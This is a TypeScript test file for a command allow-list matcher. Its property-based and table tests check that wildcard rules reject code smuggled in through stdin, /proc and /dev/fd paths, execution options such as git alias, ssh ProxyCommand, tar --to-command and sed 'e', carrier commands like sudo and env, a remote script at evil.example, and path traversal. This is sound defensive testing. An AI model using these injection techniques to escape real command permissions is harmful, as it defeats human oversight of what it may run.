import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { CommandRule, ruleAllows, ruleDenies } from "./command-rule.ts";

const allows = (rule: string | string[], argv: string[], stdin = false, files?: string[]): boolean =>
  ruleAllows(CommandRule.parse(rule), { argv, stdin, ...(files && { files }) });

describe("a file that the task fills itself (G1)", () => {
  test.each([
    ["python3 **", ["python3", "/dev/stdin"]],
    ["bash *", ["bash", "/dev/fd/0"]],
    ["node **", ["node", "/proc/self/fd/0"]],
    ["sh **", ["sh", "//proc/./self/cmdline", "\nid\n"]],
    ["sh **", ["sh", "/opt/../proc/self/environ"]],
    ["sh **", ["sh", "../../dev/stdin"]],
    ["sh **", ["sh", "environ"]],
    ["**", ["perl", "/dev/stdin"]],
    ["sudo python3 **", ["sudo", "python3", "/dev/stdin"]],
    ["busybox sh *", ["busybox", "sh", "/dev/stdin"]],
  ])("%s does not allow %j", (rule, argv) => {
    for (const stdin of [false, true]) expect(allows(rule, argv, stdin)).toBe(false);
  });

  test("written as it is, it is meant", () => {
    expect(allows("python3 /dev/stdin", ["python3", "/dev/stdin"])).toBe(true);
    expect(allows("sh backup.sh *", ["sh", "backup.sh", "/dev/sdb1"])).toBe(true);
    expect(allows("cat *", ["cat", "/proc/cpuinfo"])).toBe(true);
  });
});

describe("code on stdin (G2)", () => {
  test.each([
    ["python3 **", ["python3"]],
    ["python3 **", ["python3", "x.py"]],
    ["python3 -W ignore **", ["python3", "-W", "ignore"]],
    ["sudo sh **", ["sudo", "sh"]],
    ["ssh nas", ["ssh", "nas"]],
    ["ssh -p 22 nas", ["ssh", "-p", "22", "nas"]],
    ["su me", ["su", "me"]],
    ["xargs sh", ["xargs", "sh"]],
    ["parallel", ["parallel"]],
    ["deno run", ["deno", "run"]],
    ["powershell -NoProfile", ["powershell", "-NoProfile"]],
  ])("%s does not allow %j", (rule, argv) => expect(allows(rule, argv, true)).toBe(false));

  test.each([
    ["sh -s", ["sh", "-s"]],
    ["python3 - *", ["python3", "-", "x"]],
    ["sh deploy.sh", ["sh", "deploy.sh"]],
    ["ssh nas cat", ["ssh", "nas", "cat"]],
    ["xargs rm", ["xargs", "rm"]],
    ["cat **", ["cat"]],
  ])("%s allows %j", (rule, argv) => expect(allows(rule, argv, true)).toBe(true));
});

describe("code in plain words (G3), options that run something, and programs carried (G4)", () => {
  test.each([
    ["deno **", ["deno", "eval", "evil"]],
    ["deno run **", ["deno", "run", "https://evil.example/x.ts"]],
    ["bun *", ["bun", "x.ts"]],
    ["bun **", ["bun", "exec", "evil"]],
    ["powershell **", ["powershell", "Remove-Item", "x"]],
    ["powershell Get-Date **", ["powershell", "Get-Date", ";evil"]],
    ["pwsh *", ["pwsh", "x.ps1"]],
    ["cmd /c build.bat *", ["cmd", "/c", "build.bat", "&evil"]],
    ["ssh **", ["ssh", "nas", "evil"]],
    ["ssh nas **", ["ssh", "nas", "evil"]],
    ["ssh nas ls *", ["ssh", "nas", "ls", ";evil"]],
    ["ssh -c aes128-ctr nas *", ["ssh", "-c", "aes128-ctr", "nas", "evil"]],
    ["ssh **", ["ssh", "-oProxyCommand=evil", "nas"]],
    ["watch *", ["watch", "evil"]],
    ["awk **", ["awk", "BEGIN{system(1)}"]],
    ["sed **", ["sed", "1e evil", "x"]],
    ["sed s/a/b/ **", ["sed", "s/a/b/", "-e", "1e evil"]],
    ["find / **", ["find", "/", "-exec", "evil"]],
    ["tar **", ["tar", "-xf", "x", "--to-command=evil"]],
    ["tar **", ["tar", "cIf", "evil", "x"]],
    ["rsync **", ["rsync", "-e", "evil", "a", "b:"]],
    ["scp **", ["scp", "-S", "evil", "a", "b:"]],
    ["make **", ["make", "--eval=$(shell evil)"]],
    ["make *", ["make", "SHELL=/x"]],
    ["vim **", ["vim", "+!evil"]],
    ["git **", ["git", "-c", "alias.x=!evil", "x"]],
    ["git **", ["git", "-calias.x=!evil", "x"]],
    ["git **", ["git", "--config-e", "a=B", "x"]],
    ["git **", ["git", "clone", "-u", "evil", "x"]],
    ["git fetch **", ["git", "fetch", "--upload-p=evil"]],
    ["git **", ["git", "rebase", "-ix", "evil"]],
    ["git -C /srv/x **", ["git", "-C", "/srv/x", "bisect", "run", "evil"]],
    ["sudo -u me **", ["sudo", "-u", "me", "evil"]],
    ["timeout 10 **", ["timeout", "10", "evil"]],
    ["nice -n 5 *", ["nice", "-n", "5", "evil"]],
    ["env A=1 **", ["env", "A=1", "evil"]],
    ["env **", ["env", "LD_PRELOAD=/x", "true"]],
    ["busybox **", ["busybox", "wget"]],
    ["timeout 10 deno **", ["timeout", "10", "deno", "eval"]],
    ["xargs -n 1 **", ["xargs", "-n", "1", "evil"]],
  ])("%s does not allow %j", (rule, argv) => expect(allows(rule, argv)).toBe(false));

  test.each([
    ["deno run app.ts **", ["deno", "run", "app.ts", "x"]],
    ["powershell -File report.ps1 **", ["powershell", "-File", "report.ps1", "today"]],
    ["pwsh -Command *", ["pwsh", "-Command", "anything"]],
    ["ssh nas uptime", ["ssh", "nas", "uptime"]],
    ["ssh nas sh -c *", ["ssh", "nas", "sh", "-c", "anything"]],
    ["sed s/a/b/ *", ["sed", "s/a/b/", "x"]],
    ["tar -xf *.tgz", ["tar", "-xf", "a.tgz"]],
    ["make *", ["make", "test"]],
    ["make -C /srv/x *", ["make", "-C", "/srv/x", "test"]],
    ["git log **", ["git", "log", "-n", "5", "--oneline"]],
    ["git **", ["git", "push", "-u", "origin", "main"]],
    ["git -C /srv/x **", ["git", "-C", "/srv/x", "pull", "--rebase"]],
    ["sudo -u me ls **", ["sudo", "-u", "me", "ls", "x"]],
    ["timeout 10 python3 **", ["timeout", "10", "python3", "x.py"]],
    ["nice -n 5 make *", ["nice", "-n", "5", "make", "test"]],
    ["env TZ=UTC date", ["env", "TZ=UTC", "date"]],
    ["sudo -- ls *", ["sudo", "--", "ls", "x"]],
  ])("%s allows %j", (rule, argv) => expect(allows(rule, argv)).toBe(true));

  test("a link to a carrier is one, but where one file is every program", () => {
    expect(allows("run **", ["run", "evil"], false, ["/opt/run", "/usr/bin/env"])).toBe(false);
    expect(allows("ls **", ["ls", "x"], false, ["/bin/ls", "/bin/busybox"])).toBe(true);
  });
});

describe("whatever the words are", () => {
  const word = fc.oneof(
    fc.constantFrom("-", "-c", "--", "/dev/stdin", "x.py", "sh", "..", "A=1", "-e", "+x", "/proc/self/fd/0", "https://x.y/z"),
    fc.string({ maxLength: 12 }),
  );
  const interpreter = fc.constantFrom("sh", "python3.12", "/usr/bin/node", "perl", "bash", "ruby3.1", "make");

  test("a star alone lets an interpreter have no option, no code on stdin and no file of the task's", () => {
    fc.assert(
      fc.property(interpreter, fc.array(word, { maxLength: 5 }), fc.boolean(), (name, args, stdin) => {
        if (!allows([name, "**"], [name, ...args], stdin)) return;
        expect(stdin).toBe(false);
        for (const arg of args) expect(arg).not.toMatch(/^[-+]|^\/(proc|dev\/(stdin|fd))/);
      }),
    );
  });

  test("a carried command may do no more than it may alone", () => {
    const carrier = fc.constantFrom(["sudo"], ["timeout", "5"], ["nice", "-n", "5"], ["env", "A=1"], ["sudo", "timeout", "5"], ["busybox"]);
    fc.assert(
      fc.property(carrier, interpreter, fc.array(word, { maxLength: 4 }), fc.boolean(), (before, name, args, stdin) => {
        if (allows([...before, name, "**"], [...before, name, ...args], stdin))
          expect(allows([name, "**"], [name, ...args], stdin)).toBe(true);
      }),
    );
  });

  test("a star behind a folder never leads out of it (C4)", () => {
    const part = fc.constantFrom("..", ".", "a", "", "...", ".. ", "b.c");
    const rest = fc.tuple(fc.array(part, { maxLength: 6 }), fc.constantFrom("/", "\\")).map(([parts, separator]) => parts.join(separator));
    fc.assert(
      fc.property(fc.constantFrom("/var/log/*", "--file=/var/log/*", "/var/log*", "-C*"), rest, (pattern, text) => {
        const arg = pattern.replace("*", text);
        if (allows(["cat", pattern], ["cat", arg])) expect(text.split(/[/\\]/).map((one) => one.trim())).not.toContain("..");
      }),
    );
  });

  test("a name with dots in it is no way up, and a denial is not narrowed by it", () => {
    for (const arg of ["/var/log/a..b", "/var/log/..a", "/var/log/a../b"]) expect(allows("cat /var/log/*", ["cat", arg])).toBe(true);
    expect(allows("git log *", ["git", "log", "v1..v2"])).toBe(true);
    expect(allows("python3 /opt/scripts/*", ["python3", "/opt/scripts/../../dev/stdin"])).toBe(false);
    expect(ruleDenies(CommandRule.parse("cat /var/log/*"), { argv: ["cat", "/var/log/../x"], stdin: false })).toBe(true);
  });
});
